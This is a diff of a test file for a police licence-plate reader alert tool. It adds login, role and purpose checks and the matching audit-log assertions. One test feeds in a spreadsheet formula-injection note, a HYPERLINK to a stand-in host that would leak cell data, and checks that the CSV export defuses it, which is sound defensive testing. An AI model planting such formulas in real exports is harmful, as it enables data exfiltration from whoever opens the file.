@@ -15,7 +15,7 @@ from edge_agent.alert import Alerter, AlertSuppressor, SpokenAlerts, alert_messa
 from edge_agent.config import AlertConfig, SyncConfig
 from edge_agent.records import Candidate, Hit, PlateReading, Read
 from edge_agent.store import Database
-from conftest import Subscriber, run_cli
+from conftest import LOGIN, Subscriber, run_cli
 
 
 def _read(text: str = "7ABC123", hits=()) -> Read:
@@ -105,30 +105,35 @@ def _one_alert(data_dir: Path):
         return read, alerter.on_read(read, db.insert_read(read), now=0.0)
 
 
-def test_officer_records_dispositions_from_the_command_line(tmp_path: Path):
+def test_officer_records_dispositions_from_the_command_line(tmp_path: Path, trained):
     data_dir = tmp_path / "data"
     read, alert = _one_alert(data_dir)
-    listed = run_cli("--data-dir", data_dir, "alerts", "list", "--open", "--json", "--user", "ofc1")
+    trained(data_dir, ("ofc1", "officer"), ("tech", "technician"))
+    ofc1 = ("--user", "ofc1", *LOGIN)
+    listed = run_cli("--data-dir", data_dir, "alerts", "list", "--open", "--json", *ofc1)
     assert json.loads(listed.out)["id"] == alert.id
-    for bad, words in [(("--disposition", "arrested"), "not one of confirmed, misread, not-located, clets-mismatch"),
-                       (("--disposition", "confirmed", "--user", " "), "is required")]:
-        args = ["--data-dir", data_dir, "alerts", "ack", alert.id, *bad]
-        if "--user" not in bad:
-            args += ["--user", "ofc1"]
-        result = run_cli(*args)
+    for bad, words in [(("--disposition", "arrested", *ofc1), "not one of confirmed, misread, not-located, clets-mismatch"),
+                       (("--disposition", "confirmed", "--user", "tech", *LOGIN), "role technician may not"),
+                       (("--disposition", "confirmed", "--user", "ofc1", "--purpose", " "), "no purpose given")]:
+        result = run_cli("--data-dir", data_dir, "alerts", "ack", alert.id, *bad)
         assert result.code == 2 and words in result.err
-    missing = run_cli("--data-dir", data_dir, "alerts", "ack", 999, "--disposition", "misread", "--user", "ofc1")
+    missing = run_cli("--data-dir", data_dir, "alerts", "ack", 999, "--disposition", "misread", *ofc1)
     assert missing.code == 2 and "no alert 999" in missing.err
-    acked = run_cli("--data-dir", data_dir, "alerts", "ack", alert.id, "--disposition", "confirmed", "--user", "ofc1",
+    acked = run_cli("--data-dir", data_dir, "alerts", "ack", alert.id, "--disposition", "confirmed", *ofc1,
                     "--note", "CLETS confirms stolen", "--json")
     assert acked.code == 0 and json.loads(acked.out)["disposition"] == "confirmed"
-    assert run_cli("--data-dir", data_dir, "alerts", "list", "--open").out == ""
+    assert run_cli("--data-dir", data_dir, "alerts", "list", "--open", *ofc1).out == ""
     with Database.in_data_dir(data_dir) as db:
         assert db.query("SELECT evidence_hold FROM reads WHERE id = ?", (read.id,))[0][0] == 1
         history = db.query("SELECT disposition, user, note FROM dispositions")
         assert [tuple(r) for r in history] == [("confirmed", "ofc1", "CLETS confirms stolen")]
-        actions = [r["action"] for r in db.query("SELECT action FROM audit_log ORDER BY id")]
-    assert actions == ["alerts.list", "alerts.ack", "alerts.list"]
+        actions = [(r["user"], r["action"], r["purpose"]) for r in db.query(
+            "SELECT user, action, purpose FROM audit_log WHERE user NOT IN ('admin', 'installer') AND action != 'login'"
+            " ORDER BY id")]
+    assert actions == [("ofc1", "alerts.list", "test patrol"), ("ofc1", "alerts.ack.refused", "test patrol"),
+                       ("tech", "alerts.ack.refused", "test patrol"), ("ofc1", "login.refused", ""),
+                       ("ofc1", "alerts.ack.refused", "test patrol"), ("ofc1", "alerts.ack", "test patrol"),
+                       ("ofc1", "alerts.list", "test patrol")]
 
 
 def test_alert_is_played_through_alsa_on_the_configured_device(tmp_path: Path):
@@ -158,7 +163,7 @@ def test_hotlist_text_reaches_speech_only_as_letters_digits_and_spaces():
     only_plain_words()
 
 
-def test_alerts_as_csv_never_hand_a_spreadsheet_a_formula(tmp_path: Path):
+def test_alerts_as_csv_never_hand_a_spreadsheet_a_formula(tmp_path: Path, trained):
     import csv
     import io
 
@@ -166,10 +171,11 @@ def test_alerts_as_csv_never_hand_a_spreadsheet_a_formula(tmp_path: Path):
 
     data_dir = tmp_path / "data"
     _, alert = _one_alert(data_dir)
+    trained(data_dir, ("ofc1", "officer"), ("clerk", "auditor"))
     note = '=HYPERLINK("http://x.example/?"&A1,"click")'
     assert run_cli("--data-dir", data_dir, "alerts", "ack", alert.id, "--disposition", "misread", "--user", "ofc1",
-                   "--note", note).code == 0
-    listed = run_cli("--data-dir", data_dir, "alerts", "list", "--csv", "--user", "clerk")
+                   *LOGIN, "--note", note).code == 0
+    listed = run_cli("--data-dir", data_dir, "alerts", "list", "--csv", "--user", "clerk", *LOGIN)
     assert listed.code == 0
     (row,) = list(csv.DictReader(io.StringIO(listed.out)))
     assert row["note"] == "'" + note and row["lic"] == "7ABC123" and row["disposition"] == "misread"
